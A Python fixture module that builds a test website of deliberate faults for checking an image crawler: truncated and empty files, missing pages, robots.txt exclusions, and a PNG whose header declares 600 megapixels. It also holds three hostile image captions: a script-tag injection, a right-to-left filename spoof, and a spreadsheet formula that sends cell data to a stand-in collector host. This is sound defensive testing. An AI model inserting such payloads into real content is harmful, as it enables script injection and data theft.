"""What is wrong on the site on purpose, as something is on every real site, and what a crawl must make of it."""

import io
import struct
import zlib
from dataclasses import dataclass
from html import escape

from PIL import Image, ImageDraw
from site_encode import encode

SIDE = 200
DRAWN = "drawn by examples/site_faults.py"
ROBOTS = "User-agent: *\nDisallow: /private/\nDisallow: /clipart/drafts/\n"
HOSTILE = {
    "script-in-the-caption": "<script>alert(1)</script> a green disc",
    "right-to-left-override": "a blue triangle \u202egnp.elgnairt",
    "formula-in-the-caption": '=HYPERLINK("https://collector.example/?"&A1,"three red bars")',
}


@dataclass(frozen=True, kw_only=True)
class Fault:
    """One planted fault.

    Attributes:
        url: Address from the site's root, or a whole address outside the site.
        kind: What is wrong.
        expected: What a crawl must make of it.
        html: Markup that leads to it.
        content: The bytes that are served under the address; None if nothing is.
    """

    url: str
    kind: str
    expected: str
    html: str
    content: bytes | None = None


def drawing(shape: str, colour: str) -> Image.Image:
    """Draws a picture that is in no package.

    Args:
        shape: One of disc, triangle, bars, house.
        colour: Name of a colour.

    Returns:
        The picture.
    """
    picture = Image.linear_gradient("L").resize((SIDE, SIDE)).convert("RGB")
    pen = ImageDraw.Draw(picture)
    if shape == "disc":
        pen.ellipse((40, 40, 160, 160), fill=colour)
    elif shape == "triangle":
        pen.polygon(((100, 25), (175, 165), (25, 165)), fill=colour)
    elif shape == "bars":
        for left in (25, 85, 145):
            pen.rectangle((left, 30, left + 30, 170), fill=colour)
    else:
        pen.rectangle((50, 100, 150, 175), fill=colour)
        pen.polygon(((40, 100), (100, 40), (160, 100)), fill="brown")
    return picture


def png(shape: str, colour: str) -> bytes:
    """Draws a picture as a PNG file.

    Args:
        shape: As for `drawing`.
        colour: As for `drawing`.

    Returns:
        The file's bytes.
    """
    return encode(drawing(shape, colour), "PNG", optimize=True)


def giant_png(width: int = 40_000, height: int = 15_000) -> bytes:
    """Makes a tiny PNG file whose header declares a giant picture.

    Args:
        width: Declared width.
        height: Declared height.

    Returns:
        The file's bytes.
    """
    file = io.BytesIO(b"\x89PNG\r\n\x1a\n")
    file.seek(0, io.SEEK_END)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    for kind, data in ((b"IHDR", header), (b"IDAT", zlib.compress(bytes(64))), (b"IEND", b"")):
        file.write(struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)))
    return file.getvalue()


def shown(url: str, alt: str) -> str:
    """Writes an image element with a caption.

    Args:
        url: Its address.
        alt: Its caption.

    Returns:
        The markup.
    """
    return f'<p><img src="{escape(url)}" alt="{escape(alt)}"></p>'


def clipart(sample: tuple[str, bytes]) -> list[Fault]:
    """Lists the faults of the clip art section.

    Args:
        sample: Address inside the section and content of a picture, to be shown once more under another address.

    Returns:
        The faults.
    """
    jpeg = encode(drawing("house", "orange"), "JPEG", quality=85)
    moved = b"<!DOCTYPE html>\n<title>Moved</title>\n<p>This picture has moved.</p>\n"
    copy = f"img/more/another-copy.{sample[0].rpartition('.')[2]}"
    bad = {
        "img/more/moved-house.png": ("page under a picture's name", "failed: not a picture", moved),
        "img/more/half-a-house.jpg": ("truncated JPEG", "failed: truncated", jpeg[: len(jpeg) // 2]),
        "img/more/half-a-disc.png": ("truncated PNG", "failed: truncated", png("disc", "purple")[:-400]),
        "img/more/empty.gif": ("empty file", "failed: empty", b""),
        "img/more/poster.png": ("header declares 600 megapixels", "failed: too many pixels, by header", giant_png()),
        copy: (f"same bytes as /clipart/{sample[0]}", "one of the two dropped as a duplicate", sample[1]),
    }
    faults = [
        Fault(url=f"/clipart/{url}", kind=kind, expected=expected, content=content,
              html=shown(url, f"one more picture, {url.rpartition('/')[2]}"))
        for url, (kind, expected, content) in bad.items()
    ]  # fmt: skip
    for number in (1, 2, 3):
        url = f"img/more/gone-{number}.png"
        faults.append(Fault(url=f"/clipart/{url}", kind="missing picture", expected="failed: HTTP 404",
                            html=shown(url, f"a picture that has gone, number {number}")))  # fmt: skip
    pictures = (png("disc", "green"), png("triangle", "blue"), png("bars", "red"))
    for (name, caption), content in zip(HOSTILE.items(), pictures, strict=True):
        url = f"img/more/{name}.png"
        faults.append(Fault(url=f"/clipart/{url}", kind="hostile caption", content=content, html=shown(url, caption),
                            expected="crawled; shown escaped wherever it appears"))  # fmt: skip
    return faults + _links()


def _links() -> list[Fault]:
    """Lists the clip art section's links that lead nowhere or where a crawl must not go."""
    spacer = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
    outside = "https://pictures.example/banner.png"
    rules = (
        ("/clipart/page-999.html", "missing page", "failed: HTTP 404", None, "The rest of the collection"),
        ("/clipart/credits.txt", "text file behind a link", "not a page: no links taken", b"Thanks!\n", "Credits"),
        ("/clipart/drafts/index.html", "page that robots.txt forbids", "never requested",
         _hidden("Drafts", "sketch.png"), "Drafts"),
        ("https://friends.example/clipart/", "page of another site", "never requested", None, "More clip art"),
        ("javascript:window.print()", "script behind a link", "ignored", None, "Print"),
    )  # fmt: skip
    faults = [
        Fault(url=url, kind=kind, expected=expected, content=content, html=f'<p><a href="{escape(url)}">{text}</a></p>')
        for url, kind, expected, content, text in rules
    ]
    return [
        *faults,
        Fault(url="/private/hidden.png", kind="picture that robots.txt forbids", expected="never requested",
              content=png("house", "teal"), html=shown("/private/hidden.png", "a house for members only")),
        Fault(url=outside, kind="picture of another site", expected="never requested",
              html=shown(outside, "a banner of another site")),
        Fault(url=spacer, kind="picture inside the page", expected="ignored", html=shown(spacer, "")),
    ]  # fmt: skip


def _hidden(title: str, picture: str) -> bytes:
    """Writes a small page that robots.txt forbids."""
    shown_there = shown(picture, "a picture that must not be crawled")
    return f"<!DOCTYPE html>\n<meta charset=utf-8>\n<title>{title}</title>\n{shown_there}\n".encode()


def behind_robots() -> dict[str, bytes]:
    """Lists files that only pages lead to which robots.txt forbids.

    Returns:
        Path in the site to content.
    """
    return {
        "private/index.html": _hidden("Members only", "hidden.png"),
        "clipart/drafts/sketch.png": png("triangle", "gray"),
    }


def emoji() -> list[Fault]:
    """Lists the faults of the section of still emoji.

    Returns:
        The faults.
    """
    return [
        Fault(url="/emoji/img/symbols/gone.webp", kind="missing picture", expected="failed: HTTP 404",
              html=shown("img/symbols/gone.webp", "melting snow globe")),
        Fault(url="/emoji/img/symbols/nameless.webp", kind="picture without a caption", expected="rejected: no caption",
              content=encode(drawing("bars", "gold"), "WEBP", quality=80),
              html='<p><img src="img/symbols/nameless.webp"></p>'),
    ]  # fmt: skip


def motion(sample: tuple[str, bytes]) -> list[Fault]:
    """Lists the faults of the section of moving emoji.

    Args:
        sample: Address inside the section and content of a clip, of which half is shown once more.

    Returns:
        The faults.
    """
    url, clip = sample
    video = '<p><video src="{}" title="{}" muted loop></video></p>'
    half = f"video/half-a-clip.{url.rpartition('.')[2]}"
    half_html = video.format(half, "half a clip") if half.endswith(".mp4") else shown(half, "half a clip")
    return [
        Fault(url="/emoji-motion/video/gone.mp4", kind="missing clip", expected="failed: HTTP 404",
              html=video.format("video/gone.mp4", "a clip that has gone")),
        Fault(url=f"/emoji-motion/{half}", kind="truncated clip", expected="failed: truncated", html=half_html,
              content=clip[: len(clip) // 2]),
        Fault(url="/emoji-motion/img/still.webp", kind="still picture among moving ones", html=shown("img/still.webp",
              "a disc that does not move"), expected="rejected: no motion",
              content=encode(drawing("disc", "navy"), "WEBP", quality=80)),
    ]  # fmt: skip


def planted(section: str, sample: tuple[str, bytes]) -> list[Fault]:
    """Lists the faults of a section.

    Args:
        section: Name of the section.
        sample: Address inside the section and content of its first picture.

    Returns:
        The faults; none where the section has none.
    """
    if section == "clipart":
        return clipart(sample)
    if section == "emoji":
        return emoji()
    return motion(sample) if section == "emoji-motion" else []
